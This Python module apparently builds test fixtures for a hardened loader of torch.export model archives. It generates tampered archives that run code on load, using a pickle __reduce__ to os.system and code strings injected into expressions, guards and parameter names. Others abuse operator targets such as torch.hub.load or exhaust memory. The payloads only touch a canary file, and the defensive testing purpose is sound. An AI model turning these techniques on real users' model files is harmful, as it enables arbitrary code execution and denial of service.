"""Hostile exported programs, built here: each would leave a canary, fill the memory or break the reader."""

from __future__ import annotations

import io
import json
import os
import pickle
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import torch
from torch import nn
from torch.export import Dim

MODEL, WEIGHTS = "models/model.json", "data/weights/model_weights_config.json"
CONSTANTS, EXAMPLES = "data/constants/model_constants_config.json", "data/sample_inputs/model.pt"


class Network(nn.Module):
    """A network with an open batch size, a constant and a keyword."""

    def __init__(self) -> None:
        super().__init__()
        self.conv = nn.Conv2d(3, 8, 3)
        self.bn = nn.BatchNorm2d(8)
        self.constant = torch.ones(8, 1, 1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.bn(self.conv(x)).relu() * self.constant + x.shape[0]


def valid() -> bytes:
    """Return a program as torch.export.save writes it."""
    torch.manual_seed(0)
    program = torch.export.export(
        Network().eval(), (torch.randn(2, 3, 8, 8),), dynamic_shapes=({0: Dim("batch", max=64)},)
    )
    buffer = io.BytesIO()
    torch.export.save(program, buffer)
    return buffer.getvalue()


def altered(data: bytes, changes: dict[str, bytes | None], compression: int = zipfile.ZIP_STORED) -> bytes:
    """Return an archive with other entries, by their names below the root; None leaves one out."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(buffer, "w", compression) as new:
        root = old.namelist()[0].partition("/")[0]
        entries = {name.partition("/")[2]: old.read(name) for name in old.namelist()}
        for name, content in (entries | changes).items():
            if content is not None:
                new.writestr(f"{root}/{name}", content)
    return buffer.getvalue()


def entry(data: bytes, name: str) -> bytes:
    """Return one entry."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(next(full for full in archive.namelist() if full.partition("/")[2] == name))


def with_json(data: bytes, name: str, change: Callable[[Any], Any]) -> bytes:
    """Return an archive with a JSON entry changed in place."""
    value = json.loads(entry(data, name))
    change(value)
    return altered(data, {name: json.dumps(value).encode()})


class Touching:
    """A pickle that writes a file when it is read."""

    def __init__(self, canary: Path) -> None:
        self._canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self._canary}",)


def _pickled(canary: Path) -> bytes:
    buffer = io.BytesIO()
    torch.save(Touching(canary), buffer)
    return buffer.getvalue()


@dataclass(frozen=True)
class Attack:
    """One hostile file.

    Attributes:
        make: returns it, given a valid program and the canary.
        works: whether torch itself, trusting the file, touches the canary: on load, or when it is run.
        harmless: whether what is hostile is left out, so that the rest may be read.

    """

    make: Callable[[bytes, Path], bytes]
    works: bool = False
    harmless: bool = False


def _in_graph(change: Callable[[dict[str, Any], Path], Any]) -> Callable[[bytes, Path], bytes]:
    return lambda data, canary: with_json(data, MODEL, lambda value: change(value, canary))


def _code(canary: Path) -> str:
    return f"__import__('os').system('touch {canary}')"


def _set_expression(value: dict[str, Any], text: str) -> None:
    for meta in value["graph_module"]["graph"]["tensor_values"].values():
        for size in meta["sizes"]:
            if "as_expr" in size:
                size["as_expr"]["expr_str"] = text


def _rename_parameter(value: dict[str, Any], canary: Path) -> None:
    """Give a parameter a name that becomes code of the generated forward."""
    name = f'x"), {_code(canary)}, getattr(self, "y'
    for spec in value["graph_module"]["signature"]["input_specs"]:
        if spec.get("parameter", {}).get("parameter_name") == "conv.weight":
            spec["parameter"]["parameter_name"] = name


def _renamed_payload(data: bytes, canary: Path) -> bytes:
    name = f'x"), {_code(canary)}, getattr(self, "y'

    def change(value: dict[str, Any]) -> None:
        value["config"][name] = value["config"].pop("conv.weight")

    changed = with_json(data, MODEL, lambda value: _rename_parameter(value, canary))
    return with_json(changed, WEIGHTS, change)


def _argument_name(value: dict[str, Any], canary: Path) -> None:
    signature = value["graph_module"]["module_call_graph"][0]["signature"]
    signature["forward_arg_names"] = [f"x={_code(canary)}"]


def _guard(value: dict[str, Any], canary: Path) -> None:
    value["guards_code"] = [_code(canary) + " == 0"]


def _tree(value: dict[str, Any], canary: Path) -> None:
    """Nest the arguments in a defaultdict, whose factory torch imports by name."""
    spec = {
        "type": "collections.defaultdict",
        "context": json.dumps(
            {"default_factory_module": "antigravity", "default_factory_name": "x", "dict_context": []}
        ),
        "children_spec": [],
    }
    value["graph_module"]["module_call_graph"][0]["signature"]["out_spec"] = json.dumps([1, spec])


def _target(name: str) -> Callable[[bytes, Path], bytes]:
    def change(value: dict[str, Any], canary: Path) -> None:
        value["graph_module"]["graph"]["nodes"][0]["target"] = name

    return _in_graph(change)


def _constant(data: bytes, canary: Path) -> bytes:
    def change(value: dict[str, Any]) -> None:
        value["config"]["evil"] = {
            "path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None
        }  # fmt: skip

    changed = with_json(data, CONSTANTS, change)
    return altered(changed, {"data/constants/opaque_obj_0": pickle.dumps(Touching(canary))})


def _pickled_weight(data: bytes, canary: Path) -> bytes:
    def change(value: dict[str, Any]) -> None:
        value["config"]["conv.weight"]["use_pickle"] = True

    return altered(with_json(data, WEIGHTS, change), {"data/weights/weight_0": _pickled(canary)})


def _payload(**fields: Any) -> Callable[[bytes, Path], bytes]:
    def change(value: dict[str, Any]) -> None:
        value["config"]["conv.weight"]["tensor_meta"] |= fields

    return lambda data, canary: with_json(data, WEIGHTS, change)


def _ints(*values: int) -> list[dict[str, int]]:
    return [{"as_int": value} for value in values]


ATTACKS: dict[str, Attack] = {
    "example inputs are a pickle": Attack(
        lambda data, canary: altered(data, {EXAMPLES: _pickled(canary)}), works=True, harmless=True
    ),
    "a constant is a pickle": Attack(_constant, works=True),
    "a weight is a pickle": Attack(_pickled_weight, works=True),
    "weights in the legacy form": Attack(
        lambda data, canary: altered(data, {"data/weights/model.pt": _pickled(canary)}), works=True
    ),
    "constants in the legacy form": Attack(
        lambda data, canary: altered(data, {"data/constants/model.pt": _pickled(canary)}), works=True
    ),
    "an expression is code": Attack(
        _in_graph(lambda value, canary: _set_expression(value, _code(canary))), works=True
    ),
    "a condition is code": Attack(_in_graph(_guard), works=True),
    "a parameter's name is code": Attack(_renamed_payload),
    "an argument's name is code": Attack(_in_graph(_argument_name)),
    "arguments in a class to import": Attack(_in_graph(_tree)),
    "an operator of torch.hub": Attack(_target("torch.hub.load")),
    "an operator that reads files": Attack(_target("torch.ops.aten.from_file.default")),
    "an operator of another module": Attack(_target("_operator.attrgetter")),
    "an operator by its class": Attack(_target("torch.ops.aten.relu.default.__class__")),
    "an extension's operator": Attack(_target("#extension.op")),
    "a compiled library": Attack(
        lambda data, canary: altered(data, {"data/aotinductor/model/x.so": b"\x7fELF", "extra/x.py": b"1"})
    ),
    "a size of forty gigabytes": Attack(_payload(sizes=_ints(10_000_000_000), strides=_ints(0))),
    "a negative stride": Attack(_payload(strides=[{"as_int": -1}] * 4)),
    "an offset behind the end": Attack(_payload(storage_offset={"as_int": 2**40})),
    "a size that is open": Attack(_payload(sizes=[{"as_expr": {"expr_str": "Integer(1)"}}])),
    "no bytes for a tensor": Attack(lambda data, canary: altered(data, {"data/weights/weight_0": b""})),
    "compressed entries": Attack(lambda data, canary: altered(data, {}, zipfile.ZIP_DEFLATED)),
    "JSON nested deeply": Attack(lambda data, canary: altered(data, {MODEL: b"[" * 100_000})),
    "a power that fills the memory": Attack(
        _in_graph(lambda value, canary: _set_expression(value, "Pow(Integer(9), Integer(999999999))"))
    ),
}
